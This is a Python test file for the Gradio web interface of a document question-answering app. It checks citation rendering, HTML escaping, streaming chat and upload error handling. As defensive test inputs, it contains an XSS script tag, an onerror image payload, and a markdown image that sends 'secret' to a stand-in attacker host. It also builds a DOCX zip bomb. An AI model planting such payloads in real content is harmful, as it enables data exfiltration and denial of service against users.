"""The Gradio page: its rendering, and the chat and document events through gradio_client over real HTTP."""

from __future__ import annotations

import time
from types import SimpleNamespace

import pytest
from conftest import FakeEmbedder

from ragapp.generate.base import Generator
from ragapp.types import Answer, Citation, Passage

P1 = Passage(text="Cats sleep about sixteen hours a day. Kittens sleep more.", source="pets/cats.md", page=None,
             score=0.91, chunk_id=3, collection="pets")
P2 = Passage(text="<script>alert(1)</script> Dogs bark.", source="dogs.pdf", page=4, score=0.42, chunk_id=7,
             collection="pets")


def test_render_answer_links_citations_and_flags_unsupported():
    from ragapp.serve.ui import plain_text, render_answer

    answer = Answer(text="Cats sleep sixteen hours [1]. Dogs fly [2]. See [7].", passages=[P1, P2],
                    citations=[Citation(1, P1, True, 0.9, (0, 36)), Citation(2, P2, False, 0.1, None)],
                    unsupported_sentences=["Dogs fly [2]."])
    md = render_answer(answer, "abc")
    assert '<a href="#cite-abc-1" title="pets/cats.md">[1]</a>' in md
    assert '<a href="#cite-abc-2" title="dogs.pdf p. 4">[2]</a>' in md
    assert "[7]" in md and "#cite-abc-7" not in md  # a number with no passage stays plain text
    assert "Dogs fly" in md and "⚠ not supported by its source" in md
    assert md.endswith("⚠ 1 sentence not supported by the cited passages.")
    assert plain_text(md) == "Cats sleep sixteen hours [1]. Dogs fly [2]. See [7]."


def test_document_text_cannot_fetch_or_format():
    from ragapp.serve.ui import plain_text, render_answer, safe_markdown

    hostile = '# Title\n![x](http://attacker/?q=secret) see [docs](http://evil) <img src=x onerror=alert(1)>\n====\n---'
    md = safe_markdown(hostile)
    assert "![" not in md and "](" not in md and "<img" not in md and "&lt;img" in md
    assert md.startswith("\\# Title") and "\n\\====\n\\---" in md
    answer = Answer(text=hostile + " [1]", passages=[P1])
    assert plain_text(render_answer(answer, "a")) == hostile + " [1]"


def test_render_abstention_and_extractive_distinctly():
    from ragapp.serve.ui import plain_text, render_answer

    no = Answer(text="The documents do not contain the answer.", passages=[P1], abstained=True, mode="abstained",
                reason="the retrieved passages do not match the question well enough")
    md = render_answer(no, "x")
    assert md.startswith("⊘ **Not in your documents.** The documents do not contain the answer.")
    assert "Why: the retrieved passages do not match" in md
    assert plain_text(md) == "The documents do not contain the answer."
    quoted = Answer(text="“Cats sleep about sixteen hours a day.” [1]", passages=[P1], mode="extractive",
                    citations=[Citation(1, P1, True, 1.0, (0, 36))], reason="3 of 3 answer sentences are not supported")
    md = render_answer(quoted, "y")
    assert md.startswith("**Quoted from your documents** <small>— 3 of 3 answer sentences are not supported</small>")
    assert plain_text(md) == "“Cats sleep about sixteen hours a day.” [1]"


def test_render_sources_highlights_and_escapes():
    from ragapp.serve.ui import render_sources

    answer = Answer(text="x [1] [2]", passages=[P1, P2], question="How long do cats sleep?",
                    citations=[Citation(1, P1, True, 0.87, (0, 37)), Citation(2, P2, False, 0.12, None)])
    html = render_sources(answer, "abc", selected=2, rename=lambda c: c.upper())
    assert "<mark>Cats sleep about sixteen hours a day.</mark> Kittens sleep more." in html
    assert '<details class="rag-src" id="src-abc-1">' in html  # closed
    assert '<details class="rag-src selected" id="src-abc-2" open>' in html
    assert "[2] dogs.pdf p. 4" in html and "score 0.420 · PETS" in html
    assert "✓ supports the answer (0.87)" in html and "does not support the sentence citing it (0.12)" in html
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_history_pairs_accepts_both_message_shapes():
    from ragapp.serve.ui import _history_pairs

    history = [{"role": "user", "content": "Who?"},
               {"role": "assistant", "content": 'Cats <a href="#cite-a-1" title="c">[1]</a>.'},
               {"role": "user", "content": [{"type": "text", "text": "And when?"}]},
               {"role": "assistant", "content": [{"type": "text", "text": "⊘ **Not in your documents.** No."}]}]
    assert _history_pairs(history) == [("Who?", "Cats [1]."), ("And when?", "No.")]


def test_module_level_demo_builds(monkeypatch, tmp_path):
    import gradio as gr

    import ragapp.serve.ui as ui

    monkeypatch.chdir(tmp_path)  # the default index folder is ./indexes
    monkeypatch.delattr(ui, "demo", raising=False)
    assert isinstance(ui.demo, gr.Blocks)
    assert (tmp_path / "indexes").is_dir()


# ----------------------------------------------------------------------------- over HTTP


class WordByWord(Generator):
    """Answers with the first sentence of passage 1, cited, a word at a time (slowly enough to stream)."""

    name = "word-by-word"
    context_tokens = 4096

    def stream(self, messages, *, max_new_tokens=256, temperature=0.0, stop=()):
        user = messages[-1]["content"]
        first = user.split('"""\n', 1)[1].split(". ")[0]
        for word in f"{first} [1].".split(" "):
            time.sleep(0.05)
            yield word + " "


@pytest.fixture(scope="module")
def page(tmp_path_factory, tokenizer):
    from gradio_client import Client

    from ragapp.serve.api import BackgroundServer
    from ragapp.serve.service import RagService, ServeConfig

    root = tmp_path_factory.mktemp("ui")
    (root / "server-docs").mkdir()
    (root / "server-docs" / "owls.md").write_text("Owls hunt mice at night. Barn owls nest in old buildings.")
    (root / "upload").mkdir()
    (root / "upload" / "cats.md").write_text("Kittens sleep about twenty hours a day. Adult cats sleep sixteen hours.")
    service = RagService(ServeConfig(index_dir=root / "indexes", backend="llm", folder_roots=[root / "server-docs"]),
                         embedder=FakeEmbedder(tokenizer), generator=WordByWord())
    with BackgroundServer(service) as url:
        client = Client(url, verbose=False)
        yield SimpleNamespace(url=url, root=root, client=client, service=service)
        client.close()


def test_upload_then_streamed_chat_with_sources(page):
    from gradio_client import handle_file

    c = page.client
    status, target = c.predict([handle_file(str(page.root / "upload" / "cats.md"))], "pets", api_name="/add_documents")
    assert target == "pets"
    assert status.startswith("✓ pets: added 1") and "1 files, 1 chunks" in status

    job = c.submit("How long do kittens sleep?", ["pets"], 5, "llm", "", 0.0, False, api_name="/chat")
    partials = [out for out in job]
    final_text, panel = job.outputs()[-1]
    assert len({p[0] for p in partials}) >= 3  # the answer grew in several steps
    assert final_text.startswith("Kittens sleep about twenty hours a day")
    assert '<a href="#cite-' in final_text and ">[1]</a>" in final_text
    assert "Sources for “How long do kittens sleep?”" in panel and "[1] cats.md" in panel
    assert "<mark>Kittens sleep about twenty hours a day.</mark>" in panel

    # a follow-up in the same session is made standalone from the conversation
    _, panel = c.predict("And how long do they sleep as adults?", ["pets"], 5, "llm", "", 0.0, False, api_name="/chat")
    assert "Sources for “" in panel and "kittens" in panel.split("Sources for “", 1)[1].split("”")[0].lower()


def test_upload_status_lists_each_file_that_failed(page):
    import hostile_files
    from gradio_client import handle_file

    bomb = page.root / "upload" / "report.docx"
    bomb.write_bytes(hostile_files.docx_bomb(hostile_files.small_docx(), gigabytes=1))
    status, _ = page.client.predict([handle_file(str(page.root / "upload" / "cats.md")), handle_file(str(bomb))],
                                    "mixed", api_name="/add_documents")
    head, *lines = status.split("\n")
    assert head.startswith("✓ mixed: added 1") and head.endswith("; 1 failed — 1 files, 1 chunks:")
    assert lines == ["- ✗ report.docx: DOCX unzips to over 256 MB, likely a zip bomb; not parsed "
                     "(if it is a real document, save it again from Word or LibreOffice)"]
    assert str(page.root) not in status  # no server path


def test_index_folder_remove_file_and_errors(page):
    from gradio_client.exceptions import AppError

    c = page.client
    status, _ = c.predict(str(page.root / "server-docs"), "birds", api_name="/index_folder")
    assert status.startswith("✓ birds: added 1")
    answer, _ = c.predict("When do owls hunt?", ["birds"], 5, "extractive", "", 0.0, False, api_name="/chat")
    assert answer.startswith("**Quoted from your documents**") and "Owls hunt mice at night" in answer

    with pytest.raises(AppError, match="indexing server folders is allowed only under"):
        c.predict(str(page.root / "upload"), "birds", api_name="/index_folder")
    with pytest.raises(AppError, match="no such folder on the server"):
        c.predict(str(page.root / "server-docs" / "missing"), "birds", api_name="/index_folder")
    with pytest.raises(AppError, match="no collection 'nope'"):
        c.predict("When?", ["nope"], 5, "extractive", "", 0.0, False, api_name="/chat")
    with pytest.raises(AppError, match="the question is empty; type a question"):
        c.predict("   ", ["birds"], 5, "extractive", "", 0.0, False, api_name="/chat")

    assert c.predict("birds", "owls.md", api_name="/remove_file") == "✓ removed owls.md from birds (1 chunks)"
    with pytest.raises(AppError, match="no file 'owls.md' in collection 'birds'"):
        c.predict("birds", "owls.md", api_name="/remove_file")
